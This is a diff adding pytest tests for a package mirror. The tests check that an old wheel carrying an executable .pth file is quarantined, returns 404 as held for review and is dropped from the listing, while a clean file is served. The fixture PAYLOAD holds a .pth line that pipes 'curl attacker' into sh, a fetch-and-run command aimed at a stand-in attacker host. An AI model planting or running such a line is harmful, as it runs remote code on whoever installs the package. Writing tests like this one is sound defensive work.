@@ -1,0 +1,84 @@
+"""Every file is inspected before its first byte is served (docs/admission.md, "Refusals").
+
+History (files already older than the quarantine when the mirror first reads a project) is
+admitted without checks; its first download inspects it, as a candidate would have been, and
+a flagged file answers 404 with the reason, is held for review and leaves the page.
+"""
+
+import json
+from collections.abc import Callable
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+from flask.testing import FlaskClient
+
+from mirror.app import create_app
+from mirror.db import queries
+from mirror.policy.admission import State
+from mirror.scheduler import run_cycle
+from mirror.services.context import Services
+from tests.support.fake_upstream import FakeUpstream
+
+OLD = datetime.now(UTC) - timedelta(days=30)
+JSON = {"Accept": "application/vnd.pypi.simple.v1+json"}
+CLEAN = "demo-1.0-py3-none-any.whl"
+EVIL = "demo-1.1-py3-none-any.whl"
+PAYLOAD = {"demo_evil.pth": "import os; os.system('curl attacker | sh')\n"}
+
+
+def listed(client: FlaskClient) -> list[str]:
+    page = json.loads(client.get("/simple/demo/", headers=JSON).data)
+    return [f["filename"] for f in page["files"]]
+
+
+def file_row(services: Services, filename: str):  # type: ignore[no-untyped-def]
+    with services.engine.connect() as conn:
+        return queries.file_by_name(conn, "demo", filename)
+
+
+def target_url(services: Services, filename: str) -> str:
+    return f"/tuf/targets/packages/demo/{file_row(services, filename).sha256}.{filename}"
+
+
+@pytest.mark.parametrize("route", ["file", "target"])
+def test_a_history_file_with_an_executable_pth_is_never_served(
+    make_services: Callable[..., Services],
+    fake_upstream: FakeUpstream,
+    tmp_path: Path,
+    route: str,
+) -> None:
+    fake_upstream.publish_release("demo", "1.0", tmpdir=tmp_path, upload_time=OLD)
+    fake_upstream.publish_release("demo", "1.1", tmpdir=tmp_path, upload_time=OLD, pth=PAYLOAD)
+    services = make_services()
+    client = create_app(services.config, services).test_client()
+    assert listed(client) == [CLEAN, EVIL]  # history: admitted at the first look, unchecked
+    url = f"/packages/demo/{EVIL}" if route == "file" else target_url(services, EVIL)
+
+    response = client.get(url)
+    assert response.status_code == 404
+    assert "held for review" in response.get_data(as_text=True)
+    assert "demo_evil.pth" in response.get_data(as_text=True)
+    assert client.get(url).status_code == 404  # and on every later request
+
+    row = file_row(services, EVIL)
+    assert (row.state, row.hold_until) == (State.QUARANTINED, None)
+    assert row.evidence["content"]["baseline"] == CLEAN  # compared as a candidate would be
+    with services.engine.connect() as conn:
+        event = queries.project_events(conn, "demo")[0]
+    assert (event.filename, event.from_state, event.to_state) == (EVIL, "admitted", "quarantined")
+    run_cycle(services, [])
+    assert listed(client) == [CLEAN]
+
+
+def test_a_clean_history_file_is_inspected_once_and_served(
+    make_services: Callable[..., Services], fake_upstream: FakeUpstream, tmp_path: Path
+) -> None:
+    fake = fake_upstream.publish_release("demo", "1.0", tmpdir=tmp_path, upload_time=OLD)
+    services = make_services()
+    client = create_app(services.config, services).test_client()
+    assert listed(client) == [CLEAN]
+    assert client.get(f"/packages/demo/{CLEAN}").data == fake.content
+    assert file_row(services, CLEAN).evidence["content"]["flags"] == []
+    assert client.get(f"/packages/demo/{CLEAN}").data == fake.content
+    assert file_row(services, CLEAN).state == State.ADMITTED
